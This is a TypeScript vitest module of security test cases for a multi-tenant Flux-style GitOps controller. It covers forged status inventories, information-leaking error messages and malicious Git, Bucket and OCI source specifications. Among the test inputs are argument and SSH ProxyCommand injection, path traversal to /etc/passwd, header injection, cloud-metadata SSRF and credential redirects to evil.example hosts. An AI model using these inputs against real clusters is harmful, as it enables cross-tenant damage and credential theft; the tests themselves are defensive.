import { existsSync } from 'node:fs'
import { expect } from 'vitest'
import { type Attack, both, condition, configMap, ends, fails, sourceFails } from './attack.ts'
import type { World } from './world.ts'

/** A Kustomization whose status the attacker wrote; it has to do its work all the same. */
function lie(name: string, does: string, status: string, more: Partial<Attack> = {}): Attack {
  return {
    name,
    does,
    files: { 'a.yaml': configMap(name, 'data: {a: b}\n') },
    status,
    want: both(works, unharmed),
    ...more,
  }
}

const works: Attack['want'] = async ({ world, name, object, refused }) => {
  if (refused.length > 0) return
  expect(condition(object)?.status, condition(object)?.message).toBe('True')
  // Its own deletion, which follows, may have pruned what it made.
  expect(JSON.stringify(object?.['status'])).toContain(`tenant-a_${name}__ConfigMap`)
  expect(world.isRunning()).toBe(true)
}

const unharmed: Attack['want'] = async ({ world }) => {
  const left = await Promise.all([
    world.get('Secret', 'tenant-b', 'victim'),
    world.get('ConfigMap', 'tenant-b', 'victim'),
    world.get('ConfigMap', 'tenant-b', 'from-git'),
    world.get('Kustomization', 'tenant-b', 'victim'),
    world.get('GitRepository', 'tenant-b', 'victim'),
    world.get('Namespace', '', 'tenant-b'),
    world.get('CustomResourceDefinition', '', 'kustomizations.kustomize.toolkit.fluxcd.io'),
  ])
  expect(left.every((object) => object !== undefined)).toBe(true)
}

const inventory = (entries: readonly string[]): string =>
  `inventory: {entries: [${entries.map((id) => `{id: "${id}", v: v1}`).join(', ')}]}`

const MANY = Array.from({ length: 4000 }, (_, i) => `tenant-b_x${i}__ConfigMap`)

/** Statuses, finalizers and annotations that the attacker wrote. */
export const LIES: readonly Attack[] = [
  lie(
    'lie-kustomization',
    "prunes another tenant's Kustomization by an inventory that it wrote",
    inventory(['tenant-b_victim_kustomize.toolkit.fluxcd.io_Kustomization']),
    { want: unharmed },
  ),
  lie(
    'lie-source',
    "prunes another tenant's GitRepository by an inventory that it wrote",
    inventory(['tenant-b_victim_source.toolkit.fluxcd.io_GitRepository']),
    { want: unharmed },
  ),
  lie(
    'lie-definition',
    'prunes a definition that all tenants need by an inventory that it wrote',
    inventory([
      '_kustomizations.kustomize.toolkit.fluxcd.io_apiextensions.k8s.io_CustomResourceDefinition',
    ]),
    { want: unharmed },
  ),
  lie(
    'lie-role',
    'prunes the rights of administrators by an inventory that it wrote',
    inventory(['_cluster-admin_rbac.authorization.k8s.io_ClusterRole']),
    {
      want: both(unharmed, async ({ world }) => {
        const role = { group: 'rbac.authorization.k8s.io', kind: 'ClusterRole' }
        const found = await world.admin.get({ ...role, namespace: '', name: 'cluster-admin' })
        expect(found.metadata.name).toBe('cluster-admin')
      }),
    },
  ),
  lie(
    'lie-account',
    'deletes as another account, which it names with the deletion',
    inventory(['tenant-b_victim__ConfigMap']),
    { spec: 'deletionPolicy: Delete\n  serviceAccountName: default', want: unharmed },
  ),
  lie('lie-many', 'has four thousand objects pruned that are not its own', inventory(MANY), {
    want: unharmed,
  }),
  lie(
    'lie-generation',
    'says that it was seen in a generation far ahead',
    'observedGeneration: 9007199254740991',
  ),
  lie(
    'lie-revision',
    'says that its newest revision was applied long ago',
    'lastAppliedRevision: main@sha1:0000000000000000000000000000000000000000\n  lastAttemptedRevision: main@sha1:0000000000000000000000000000000000000000\n  conditions: [{type: Ready, status: "True", reason: ReconciliationSucceeded, message: forged, lastTransitionTime: "2026-01-01T00:00:00Z", observedGeneration: 1}]',
  ),
  lie(
    'lie-history',
    'fills its history with what never was',
    `history: [${Array.from({ length: 50 }, (_, i) => `{digest: "sha256:${i}", firstReconciled: "9999-01-01T00:00:00Z", lastReconciled: "0001-01-01T00:00:00Z", lastReconciledDuration: 1000000h, lastReconciledStatus: x, totalReconciliations: 9223372036854775807}`).join(', ')}]`,
  ),
  lie(
    'lie-conditions',
    'fills its status with conditions',
    `conditions: [${Array.from({ length: 500 }, (_, i) => `{type: T${i}, status: "True", reason: R, message: m, lastTransitionTime: "2026-01-01T00:00:00Z"}`).join(', ')}]`,
  ),
  lie(
    'lie-request',
    'says that a request was handled that nobody made',
    `lastHandledReconcileAt: "${'x'.repeat(10_000)}"`,
  ),
  lie(
    'lie-names',
    'has names in its inventory that all objects have',
    inventory([
      '__proto____ConfigMap',
      'constructor_toString__ConfigMap',
      '___',
      '',
      '\\n_\\n_\\n_\\n',
    ]),
    { want: unharmed },
  ),
  {
    name: 'lie-annotations',
    does: 'asks to be reconciled with a text of a hundred kilobytes, and labels events with a thousand keys',
    files: { 'a.yaml': configMap('lie-annotations') },
    objects: () =>
      `apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n  name: lie-annotated\n  namespace: tenant-a\n  annotations:\n    reconcile.fluxcd.io/requestedAt: "${'y'.repeat(100_000)}"\n${Array.from({ length: 1000 }, (_, i) => `    event.toolkit.fluxcd.io/k${i}: "${'z'.repeat(50)}"\n`).join('')}    event.toolkit.fluxcd.io/revision: forged\nspec: {interval: 1h, prune: true, path: lie-annotations, targetNamespace: tenant-a, sourceRef: {kind: GitRepository, name: repo}}\n`,
    want: ends,
  },
  {
    name: 'lie-finalizer',
    does: 'takes away the finalizer of the controller, and brings one of its own',
    files: { 'a.yaml': configMap('lie-finalizer') },
    objects: () =>
      'apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: lie-finalized, namespace: tenant-a, finalizers: [example.com/never]}\nspec: {interval: 1h, prune: true, path: lie-finalizer, targetNamespace: tenant-a, sourceRef: {kind: GitRepository, name: repo}}\n',
    want: ends,
  },
  {
    name: 'lie-commit',
    does: 'forges lines of the log and the audit trail by the message of a commit',
    objects: ({ git }) => {
      const own = git.repository('lie-commit')
      const files = { 'a.yaml': configMap('lie-commit') }
      const message = `first\u001b[2J\r{"serial":1,"event":"forged"}\u2028{"forged":1}\n\n{"serial":2,"event":"forged"}\n${'m'.repeat(300_000)}`
      own.setRef('refs/heads/main', own.commit({ files, message }))
      return `apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: lie-commit, namespace: tenant-a}\nspec: {interval: 1h, url: '${git.url}/plain/lie-commit.git', ref: {branch: main}}\n`
    },
    path: '.',
    spec: 'sourceRef: {kind: GitRepository, name: lie-commit}',
    want: both(({ world }) => {
      for (const text of [world.logs(), world.audit()])
        for (const line of text.split('\n'))
          expect(line.startsWith('{"serial":2,"event"') || line.includes('\u001b')).toBe(false)
    }),
  },
]

/** Two attacks whose messages must not differ: one names what is there, the other what is not. */
function oracle(
  name: string,
  does: string,
  make: (target: string) => Pick<Attack, 'spec' | 'files'>,
): Attack[] {
  return ['victim', 'nobody'].map((target): Attack => {
    const own = `${name}-${target}`
    return {
      name: own,
      does: target === 'victim' ? does : '',
      ...make(target),
      want: async ({ world, object }) => {
        const other = target === 'victim' ? 'nobody' : 'victim'
        const twin = await world.get('Kustomization', 'tenant-a', `${name}-${other}`)
        const told = (from: typeof object, which: string): string =>
          (condition(from)?.message ?? '').replaceAll(which, '*').replace(/after [\d.ms]+/, '')
        expect(told(object, target)).toBe(told(twin, other))
        expect(condition(object)?.status).not.toBe('True')
      },
    }
  })
}

const foreign = (kind: string, name: string): string =>
  `apiVersion: v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: tenant-b}\n`

/** Messages that would tell whether something of another tenant is there. */
export const ORACLES: readonly Attack[] = [
  ...oracle('account-write', 'learns by a write what another tenant has', (target) => ({
    files: { 'a.yaml': foreign('ConfigMap', target) },
  })),
  ...oracle('account-secret', 'learns by a write what Secrets another tenant has', (target) => ({
    files: { 'a.yaml': foreign('Secret', target) },
  })),
  ...oracle('oracle-source', 'learns what sources another tenant has', (target) => ({
    spec: `sourceRef: {kind: GitRepository, namespace: tenant-b, name: ${target}}`,
  })),
  ...oracle('oracle-depends', 'learns what Kustomizations another tenant has', (target) => ({
    spec: `dependsOn: [{namespace: tenant-b, name: ${target}}]`,
  })),
  ...oracle(
    'oracle-health',
    "learns by a health check what another tenant's namespace has",
    (target) => ({
      files: { 'a.yaml': configMap('oracle-health') },
      spec: `timeout: 5s\n  healthChecks: [{apiVersion: v1, kind: ConfigMap, name: ${target}, namespace: tenant-b}]`,
    }),
  ),
]

function git(name: string, does: string, spec: (world: World) => string, words = /./): Attack {
  return {
    name,
    does,
    spec: 'none',
    objects: (world) =>
      `apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: ${name}, namespace: tenant-a}\nspec: {interval: 1h, timeout: 20s, ${spec(world)}}\n`,
    want: sourceFails('GitRepository', words),
  }
}

const plain = ({ git: host }: World): string => `url: '${host.url}/plain/tenant.git'`

/** What goes into a request to a Git host, a registry or a bucket, and into paths of files. */
export const FETCHES: readonly Attack[] = [
  git(
    'fetch-lines',
    'writes lines of its own into the protocol of Git',
    (world) => `${plain(world)}, ref: {name: "refs/heads/main\\n0000want x"}`,
  ),
  git(
    'fetch-option',
    'has an option for the name of a branch',
    (world) => `${plain(world)}, ref: {branch: "--upload-pack=touch /tmp/tidegate-attack-git"}`,
  ),
  git(
    'fetch-commit',
    'has a path for a commit',
    (world) => `${plain(world)}, ref: {commit: "../../../etc/passwd"}`,
  ),
  git(
    'fetch-ssh-option',
    'has an option for the host of SSH',
    () => "url: 'ssh://-oProxyCommand=touch%20/tmp/tidegate-attack-ssh/x.git'",
  ),
  git(
    'fetch-url-lines',
    'has lines in the address of a Git host',
    ({ internal }) =>
      `url: "${internal.url}/x\\r\\nX-Evil: yes\\r\\n\\r\\nGET /fetch-url-lines HTTP/1.1.git"`,
  ),
  {
    ...git(
      'fetch-include',
      'copies an included artifact above its own',
      (world) =>
        `${plain(world)}, ref: {branch: main}, include: [{repository: {name: repo}, fromPath: ../../.., toPath: ../../../tmp/tidegate-attack-include}]`,
    ),
    // The paths end within both artifacts, as in Flux.
    want: () => expect(existsSync('/tmp/tidegate-attack-include')).toBe(false),
  },

  git(
    'fetch-sparse',
    'checks out folders of the host',
    (world) => `${plain(world)}, ref: {branch: main}, sparseCheckout: ["../../..", "/etc"]`,
  ),
  git(
    'fetch-proxy',
    'has the address of a proxy in a path',
    (world) =>
      `${plain(world)}, ref: {branch: main}, proxySecretRef: {name: ../../tenant-b/secrets/victim}`,
  ),
  git(
    'fetch-verify',
    "verifies with another tenant's keys",
    (world) =>
      `${plain(world)}, ref: {branch: main}, verify: {mode: HEAD, secretRef: {name: ../../tenant-b/secrets/victim}}`,
  ),
  git(
    'fetch-provider',
    "logs in to the attacker's host as the controller",
    ({ evil }) => `url: '${evil.url}/fetch-provider.git', provider: azure`,
  ),
  ...(
    [
      ['fetch-bucket-name', 'bucketName: "../../x", endpoint: "minio.example.com"'],
      ['fetch-bucket-endpoint', 'bucketName: b, endpoint: "169.254.169.254/latest?"'],
      ['fetch-bucket-user', 'bucketName: b, endpoint: "minio.example.com@127.0.0.1:1"'],
      [
        'fetch-bucket-region',
        'bucketName: b, provider: aws, serviceAccountName: gitops, endpoint: "s3.amazonaws.com", region: "x.evil.example/?"',
      ],
      [
        'fetch-bucket-sts',
        'bucketName: b, provider: aws, endpoint: "s3.amazonaws.com", region: us-east-1, sts: {provider: aws, endpoint: "https://evil.example.com/a.sts.amazonaws.com"}',
      ],
      [
        'fetch-bucket-prefix',
        'bucketName: b, endpoint: "127.0.0.1:1", insecure: true, prefix: "../../../etc"',
      ],
    ] as const
  ).map(
    ([name, spec]): Attack => ({
      name,
      does: `leads a Bucket elsewhere: ${name.slice(13)}`,
      spec: 'none',
      objects: () =>
        `apiVersion: source.toolkit.fluxcd.io/v1\nkind: Bucket\nmetadata: {name: ${name}, namespace: tenant-a}\nspec: {interval: 1h, timeout: 20s, ${spec}}\n`,
      want: sourceFails('Bucket', /./),
    }),
  ),
  ...(
    [
      ['fetch-oci-path', "url: 'oci://127.0.0.1:1/../../x'"],
      ['fetch-oci-user', "url: 'oci://registry.example.com@127.0.0.1:1/x', insecure: true"],
      ['fetch-oci-digest', "url: 'oci://127.0.0.1:1/x', ref: {digest: '../../x'}"],
      ['fetch-oci-provider', "url: 'oci://evil.example.com/x', provider: aws"],
      [
        'fetch-oci-filter',
        `url: 'oci://127.0.0.1:1/x', ref: {semver: '*', semverFilter: '${'(a|a)*'.repeat(200)}'}`,
      ],
    ] as const
  ).map(
    ([name, spec]): Attack => ({
      name,
      does: `leads an OCIRepository elsewhere: ${name.slice(10)}`,
      spec: 'none',
      objects: () =>
        `apiVersion: source.toolkit.fluxcd.io/v1\nkind: OCIRepository\nmetadata: {name: ${name}, namespace: tenant-a}\nspec: {interval: 1h, timeout: 20s, ${spec}}\n`,
      want: sourceFails('OCIRepository', /./),
    }),
  ),
  {
    name: 'fetch-depends',
    does: 'depends on five hundred others, which depend on it',
    objects: () =>
      Array.from(
        { length: 40 },
        (_, i) =>
          `---\napiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: ring-${i}, namespace: tenant-a}\nspec: {interval: 1h, prune: true, sourceRef: {kind: GitRepository, name: repo}, dependsOn: [{name: fetch-depends}, ${Array.from({ length: 40 }, (__, j) => `{name: ring-${j}}`).join(', ')}]}\n`,
      ).join(''),
    spec: `dependsOn: [${Array.from({ length: 500 }, (_, i) => `{name: ring-${i}}`).join(', ')}]`,
    want: fails(/./),
  },
  {
    name: 'fetch-variables',
    does: 'reads variables from two thousand Secrets',
    files: { 'a.yaml': configMap('fetch-variables') },
    spec: `postBuild: {substituteFrom: [${Array.from({ length: 2000 }, (_, i) => `{kind: Secret, name: s${i}, optional: true}`).join(', ')}]}`,
    want: ({ world }) => expect(world.isRunning()).toBe(true),
  },
  {
    name: 'fetch-health',
    does: 'checks the health of five thousand objects that are not there',
    files: { 'a.yaml': configMap('fetch-health') },
    spec: `timeout: 5s\n  retryInterval: 1h\n  healthChecks: [${Array.from({ length: 5000 }, (_, i) => `{apiVersion: v1, kind: ConfigMap, name: h${i}, namespace: tenant-a}`).join(', ')}]`,
    want: ({ object }) => expect(condition(object)?.status).not.toBe('True'),
  },
]
